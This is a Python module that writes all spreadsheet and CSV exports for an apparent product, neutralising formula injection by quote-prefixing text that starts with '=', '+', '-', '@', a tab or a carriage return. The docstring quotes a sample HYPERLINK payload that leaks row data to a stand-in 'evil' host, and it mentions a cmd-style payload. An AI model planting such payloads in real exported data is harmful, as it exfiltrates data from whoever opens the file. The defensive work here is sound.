"""The one writer for every spreadsheet and CSV file the product hands out.

A text cell that starts with ``= + - @``, a tab or a carriage return is read as a formula by
Excel, WPS and LibreOffice (``=HYPERLINK("http://evil/?"&A1, "…")`` leaks the row on a click,
``=cmd|…`` has run programs). Any free text a user typed (a job title, an address, a note) can
reach an export, so no module writes a workbook or a CSV itself: it builds rows and hands them
here, and a test (``tests/security/test_exports.py``) fails on an ``openpyxl`` or ``csv`` writer
anywhere else.

- Workbook: a text cell stays the exact text (a phone number ``+86 …`` still reads as such), but
  is stored as a string with Excel's quote prefix, so no reader evaluates it, not even after the
  cell is edited. Every cell of every sheet is checked again when the file is written, so a cell
  set directly (``ws.cell(...).value = …``) is covered too.
- CSV: there is no cell type, so a dangerous text gets a leading apostrophe (OWASP's advice).

Numbers, dates and booleans are values, never text, and pass unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

DANGEROUS_LEADS = ("=", "+", "-", "@", "\t", "\r")


def is_dangerous(value: object) -> bool:
    """Whether a spreadsheet would take this text for a formula."""
    return isinstance(value, str) and value.startswith(DANGEROUS_LEADS)


def csv_text(value: object) -> object:
    """A value as it may stand in a CSV field: dangerous text behind an apostrophe."""
    if is_dangerous(value):
        return "'" + str(value)
    return value


def workbook_new() -> Workbook:
    """A new workbook; write its sheets with ``sheet_append`` and save it with ``xlsx_bytes``."""
    from openpyxl import Workbook

    return Workbook()


def _neutralise(cell: Any) -> None:
    value = cell.value
    if isinstance(value, str) and (cell.data_type == "f" or is_dangerous(value)):
        # openpyxl marks any text beginning with "=" as a formula; this makes it plain text again.
        cell.data_type = "s"
        cell.quotePrefix = True


def sheet_append(ws: Worksheet, row: Iterable[Any]) -> None:
    """Append one row; text cells that look like formulas are stored as text. Each cell is made
    and checked before it goes in: finding the appended row afterwards (``ws[ws.max_row]``)
    scans every cell of the sheet, which made a 5,000-row export take 18 s."""
    from openpyxl.cell.cell import Cell

    cells: list[Any] = []
    for value in row:
        if isinstance(value, str):
            cell = Cell(ws, value=value)
            _neutralise(cell)
            cells.append(cell)
        else:
            cells.append(value)
    ws.append(cells)


def xlsx_bytes(wb: Workbook) -> bytes:
    """The workbook as an .xlsx file, every text cell of every sheet checked once more."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                _neutralise(cell)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def csv_bytes(rows: Iterable[Sequence[Any]], *, header: Sequence[str] | None = None) -> bytes:
    """Rows as a UTF-8 CSV file with a byte-order mark (Excel on a Chinese Windows needs it to
    read the file as UTF-8), dangerous text neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    if header is not None:
        writer.writerow([csv_text(h) for h in header])
    for row in rows:
        writer.writerow([csv_text(v) for v in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")
